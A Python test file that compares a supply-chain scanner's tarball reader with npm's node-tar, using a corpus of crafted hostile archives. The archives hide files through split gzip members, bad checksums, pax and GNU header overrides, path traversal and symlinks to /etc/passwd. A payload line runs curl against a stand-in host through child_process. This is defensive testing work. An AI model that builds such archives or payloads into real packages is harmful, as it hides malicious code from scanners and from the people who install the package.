"""Differential test: chainwatch analyses exactly the files the real node-tar writes for npm.

Each hostile archive is extracted by node-tar (the copy bundled in npm, called as pacote calls
it: strip 1, links skipped, .gitignore renamed) and read by chainwatch; the (path, sha256)
sets must be equal, unless chainwatch raised a CRITICAL finding saying it cannot read the
archive the way npm does (or node-tar itself failed, and chainwatch blocked or refused it).
"""

from __future__ import annotations

import gzip
import hashlib
import json
import os
import shutil
import subprocess
import tempfile
from functools import cache
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from chainwatch.archive import read_tarball
from chainwatch.errors import UnsafeArchiveError
from chainwatch.model import PackageFiles, Severity
from tests.hostile.tarcraft import END, ZERO, entry, gnu_long, header, pad, pax, tgz

HELPER = Path(__file__).with_name("nodetar_extract.js")
#: Critical findings that mean "we could not read this the way npm does" (the release blocks).
GIVE_UP = {"CW-ARCHIVE-UNREADABLE", "CW-ARCHIVE-CORRUPT", "CW-ARCHIVE-BOMB", "CW-ARCHIVE-LIMIT"}


@cache
def _node_tar() -> str | None:
    node, npm = shutil.which("node"), shutil.which("npm")
    if not node or not npm:
        return None
    try:
        root = subprocess.run([npm, "root", "-g"], capture_output=True, text=True, timeout=30,
                              check=True).stdout.strip()
    except (OSError, subprocess.SubprocessError):
        return None
    tar = Path(root) / "npm" / "node_modules" / "tar"
    return str(tar) if (tar / "package.json").is_file() else None


def node_extract(archives: list[bytes]) -> list[dict[str, object]]:
    tar = _node_tar()
    if tar is None:
        pytest.skip("node and npm's bundled node-tar are not installed")
    with tempfile.TemporaryDirectory() as tmp:
        jobs = []
        for i, data in enumerate(archives):
            file = Path(tmp) / f"a{i}.tgz"
            file.write_bytes(data)
            jobs.append({"file": str(file), "cwd": str(Path(tmp) / f"x{i}")})
        (Path(tmp) / "jobs.json").write_text(json.dumps(jobs))
        out = subprocess.run(["node", str(HELPER), tar, str(Path(tmp) / "jobs.json")],
                             capture_output=True, text=True, timeout=60, check=True).stdout
    result: list[dict[str, object]] = json.loads(out)
    return result


def _ours(data: bytes) -> PackageFiles | None:
    try:
        return read_tarball(data)
    except UnsafeArchiveError:
        return None


def check_same(name: str, data: bytes, node: dict[str, object]) -> str:
    """Assert chainwatch agrees with node-tar; return how ('same' or 'blocked')."""
    ours = _ours(data)
    theirs = {path: meta["sha256"] for path, meta in node["files"].items()}  # type: ignore[attr-defined]
    if ours is None:
        assert node["error"] or not theirs, f"{name}: refused, but node-tar wrote {theirs}"
        return "refused"
    mine = {f.path: hashlib.sha256(f.data).hexdigest() for f in ours.files}
    gave_up = {f.rule for f in ours.findings
               if f.severity is Severity.CRITICAL and f.rule in GIVE_UP}
    if mine == theirs:
        return "same"
    assert gave_up, (f"{name}: chainwatch analyses {sorted(mine)} but node-tar wrote "
                     f"{sorted(theirs)} (node error: {node['error']}); "
                     f"findings: {[f.rule for f in ours.findings]}")
    return "blocked"


PKG = entry("package/package.json", b'{"name":"x","version":"1.0.0"}')
PAYLOAD = b"require('child_process').exec('curl http://192.0.2.1/x.invalid')"


def _corpus() -> dict[str, tuple[bytes, str]]:
    """name -> (archive, expected outcome: 'same' or 'blocked')."""
    evil = entry("package/evil.js", PAYLOAD)
    hidden_in_body = entry("package/evil.js", PAYLOAD)
    c: dict[str, tuple[bytes, str]] = {
        "plain": (tgz(PKG, entry("package/index.js", b"1"), END), "same"),
        "uncompressed": (PKG + evil + END, "same"),
        "two-gzip-members": (tgz(PKG) + tgz(evil, END), "same"),
        "two-members-first-complete": (tgz(PKG, END) + tgz(evil, END), "same"),
        "three-members-split-header": (tgz(PKG, evil[:300]) + tgz(evil[300:]) + tgz(END), "same"),
        "zero-block-mid": (tgz(PKG, ZERO, evil, END), "same"),
        "two-zero-blocks-mid": (tgz(PKG, END, evil, END), "same"),
        "bad-checksum-hides-entry": (
            tgz(PKG, header("package/decoy.js", len(hidden_in_body), cksum=1234), hidden_in_body,
                END), "same"),
        "bad-checksum-then-payload": (
            tgz(PKG, header("package/bad.js", 0, cksum=7), evil, END), "same"),
        "linkname-on-file-smuggles-body": (
            tgz(PKG, header("package/decoy.js", len(hidden_in_body), linkname="x"),
                hidden_in_body, END), "same"),
        "pax-path-override": (
            tgz(PKG, pax({"path": "package/evil.js"}), entry("package/benign.js", PAYLOAD), END),
            "same"),
        "pax-size-override": (
            tgz(PKG, pax({"size": "0"}), header("package/empty.js", len(hidden_in_body)),
                hidden_in_body, END), "same"),
        "pax-linkpath-escape-on-file": (
            tgz(PKG, pax({"linkpath": "../../../x"}), entry("package/a.js", b"a"), END), "same"),
        "global-pax-path-ignored": (
            tgz(pax({"path": "package/evil.js"}, typeflag=b"g"), PKG,
                entry("package/index.js", PAYLOAD), END), "same"),
        "global-pax-size": (
            tgz(PKG, pax({"size": "5"}, typeflag=b"g"), entry("package/a.js", b"hello"),
                entry("package/b.js", b"world"), END), "same"),
        "gnu-long-name": (
            tgz(PKG, gnu_long("package/" + "d/" * 80 + "evil.js"),
                entry("package/short.js", PAYLOAD, magic=b"ustar  \0"), END), "same"),
        "gnu-long-link": (
            tgz(PKG, gnu_long("../../../etc/passwd", b"K"),
                header("package/link", typeflag=b"2", linkname="x"), END), "same"),
        "pax-then-gnu-long": (
            tgz(PKG, pax({"path": "package/pax.js"}), gnu_long("package/gnu.js"),
                entry("package/raw.js", PAYLOAD), END), "same"),
        "ustar-prefix": (
            tgz(PKG, entry("evil.js", PAYLOAD, prefix="package/lib"), END), "same"),
        "symlink-and-hardlink": (
            tgz(PKG, header("package/s", typeflag=b"2", linkname="/etc/passwd"),
                header("package/h", typeflag=b"1", linkname="package/package.json"), END),
            "same"),
        "duplicates-last-wins": (
            tgz(PKG, entry("package/index.js", b"benign"), entry("package/index.js", PAYLOAD),
                entry("package/index.js", b"benign again"), evil, END), "same"),
        "dot-slash-package": (tgz(PKG, entry("./package/index.js", PAYLOAD), END), "same"),
        "other-top-folder": (tgz(PKG, entry("other/index.js", PAYLOAD), END), "same"),
        "root-level-file": (
            tgz(PKG, entry("index.js", PAYLOAD), entry("package/index.js", b"benign"), END),
            "same"),
        "absolute-and-dotdot": (
            tgz(PKG, entry("/package/abs.js", PAYLOAD), entry("package/../up.js", PAYLOAD),
                entry("package//double.js", PAYLOAD), END), "same"),
        "file-then-folder": (
            tgz(PKG, entry("package/lib", b"f"), entry("package/lib/x.js", PAYLOAD), END), "same"),
        "folder-then-file": (
            tgz(PKG, entry("package/lib/x.js", PAYLOAD), entry("package/lib", b"f"), END), "same"),
        "gitignore-renamed": (
            tgz(PKG, entry("package/.gitignore", b"g"), entry("package/a/.npmignore", b"n"),
                entry("package/a/.gitignore", b"skipped"), END), "same"),
        "trailing-slash-file-is-folder": (
            tgz(PKG, entry("package/dir/", b""), entry("package/dir/a.js", b"1"), END), "same"),
        "devices": (
            tgz(PKG, header("package/null", typeflag=b"3"), header("package/fifo", typeflag=b"6"),
                END), "same"),
        "base256-size": (
            tgz(PKG, header("package/big.js", size_field=b"\x80" + (5).to_bytes(11, "big")),
                pad(b"12345"), END), "same"),
        "bad-base256": (
            tgz(PKG, header("package/x.js", size_field=b"\x81" + bytes(11)), evil, END), "same"),
        "no-end-marker": (tgz(PKG, evil), "same"),
        "trailing-zeros-after-gzip": (tgz(PKG, evil, END) + b"\0" * 1000, "same"),
        "trailing-garbage-after-gzip": (tgz(PKG, evil, END) + b"GARBAGE" * 10, "blocked"),
        "zeros-then-garbage-after-gzip": (tgz(PKG, evil, END) + b"\0\0junk", "blocked"),
        "truncated-tar-body": (tgz(PKG, entry("package/big.js", b"x" * 3000)[:1500]), "blocked"),
        "truncated-gzip": (tgz(PKG, evil, END)[:-30], "blocked"),
        "corrupt-crc": (tgz(PKG, evil, END)[:-8] + b"\0\0\0\0" + tgz(END)[-4:], "blocked"),
        "typeflag-unknown": (
            tgz(PKG, header("package/x.js", 5, typeflag=b"Z"), pad(b"hello"), evil, END), "same"),
        "nul-newline-in-name": (
            tgz(PKG, entry(b"package/a.js\0\nb.js", PAYLOAD), END), "blocked"),
        "non-utf8-name": (tgz(PKG, entry(b"package/\xff\xfe.js", PAYLOAD), END), "same"),
        "pax-size-not-a-number": (tgz(PKG, pax({"size": "1e3"}), evil, END), "blocked"),
        "pax-size-huge": (tgz(PKG, pax({"size": "9" * 400}), evil, END), "blocked"),
        "drive-letter-roots": (tgz(PKG, entry("package/C:C:/x.js", PAYLOAD), END), "same"),
        "drive-letter-flood": (
            tgz(PKG, pax({"path": "package/" + "C:" * 20_000 + "x.js"}), evil, END), "blocked"),
        "too-deep": (tgz(PKG, pax({"path": "package/" + "d/" * 1100 + "x.js"}), evil, END), "same"),
        "backslash-root": (tgz(PKG, entry("package/\\srv\\share\\x.js", PAYLOAD), END), "blocked"),
        "backslash-dotdot": (tgz(PKG, entry("package/a\\..\\b.js", PAYLOAD), END), "same"),
        "zstd-magic": (b"\x28\xb5\x2f\xfd" + bytes(600), "blocked"),
    }
    return c


CORPUS = _corpus()


@cache
def _node_results() -> dict[str, dict[str, object]]:
    names = list(CORPUS)
    return dict(zip(names, node_extract([CORPUS[n][0] for n in names]), strict=True))


@pytest.mark.parametrize("name", list(CORPUS))
def test_chainwatch_reads_what_node_tar_writes(name: str) -> None:
    data, expected = CORPUS[name]
    outcome = check_same(name, data, _node_results()[name])
    if expected == "same":
        assert outcome == "same", f"{name}: expected an exact match, got {outcome}"
    else:
        assert outcome in ("blocked", "refused", "same")


def test_the_corpus_really_hides_payloads() -> None:
    """Guard against a vacuous corpus: node-tar writes the payload where the old reader
    (one gzip member, Python's tarfile) stopped."""
    import io
    import tarfile
    import zlib

    results = _node_results()
    for name in ("two-gzip-members", "zero-block-mid", "bad-checksum-hides-entry",
                 "linkname-on-file-smuggles-body"):
        data = CORPUS[name][0]
        assert "evil.js" in results[name]["files"], name  # type: ignore[operator]
        first_member = zlib.decompressobj(wbits=31).decompress(data)
        with tarfile.open(fileobj=io.BytesIO(first_member), mode="r:") as tar:
            try:
                names = tar.getnames()
            except tarfile.TarError:
                names = []
        assert "package/evil.js" not in names, name
        ours = read_tarball(data)
        assert ours.get("evil.js") is not None, name


# -- hypothesis: random mixes of the same building blocks --------------------------------------

_NAMES = ["package/a.js", "package/b/c.js", "package/b", "./package/a.js", "other/a.js", "a.js",
          "package/.gitignore", "package/.npmignore", "package/x/", "/package/d.js",
          "package/../e.js"]


def _piece() -> st.SearchStrategy[bytes]:
    name = st.sampled_from(_NAMES)
    body = st.sampled_from([b"", b"one", PAYLOAD, b"z" * 700])
    return st.one_of(
        st.builds(lambda n, b: entry(n, b), name, body),
        st.builds(lambda n, b: header(n, len(b), cksum=1) + pad(b), name, body),
        st.builds(lambda n, b: header(n, len(b), linkname="l") + pad(b), name, body),
        st.builds(lambda n: pax({"path": n}), name),
        st.builds(lambda b: pax({"size": str(len(b))}), body),
        st.builds(lambda n: pax({"path": n}, typeflag=b"g"), name),
        st.builds(lambda n: gnu_long(n), name),
        st.builds(lambda n: header(n, typeflag=b"2", linkname="../x"), name),
        st.builds(lambda n, b, t: entry(n, b, typeflag=t), name, body,
                  st.sampled_from([b"5", b"7", b"\0", b"D", b"3", b"K", b"L", b"x", b"g"])),
        st.builds(lambda n, b: entry(n.rpartition("/")[2] or "x", b,
                                     prefix=n.rpartition("/")[0]), name, body),
        st.builds(lambda n, b: header(n, size_field=b"\x80" + len(b).to_bytes(11, "big")) + pad(b),
                  name, body),
        st.just(ZERO),
        st.just(END),
    )


def _assemble(pieces: list[bytes], split: list[int], compress: bool) -> bytes:
    raw = b"".join(pieces) + END
    if not compress:
        return raw
    cuts = sorted({min(s, len(raw)) for s in split})
    members, start = [], 0
    for cut in [*cuts, len(raw)]:
        if cut > start:
            members.append(gzip.compress(raw[start:cut], mtime=0))
            start = cut
    return b"".join(members)


@settings(max_examples=int(os.environ.get("CW_DIFF_EXAMPLES", "40")), deadline=None,
          suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_piece(), min_size=1, max_size=8), st.lists(st.integers(0, 6000), max_size=3),
       st.booleans())
def test_hypothesis_mix_matches_node_tar(pieces: list[bytes], split: list[int],
                                        compress: bool) -> None:
    data = _assemble([PKG, *pieces], split, compress)
    check_same("hypothesis", data, node_extract([data])[0])
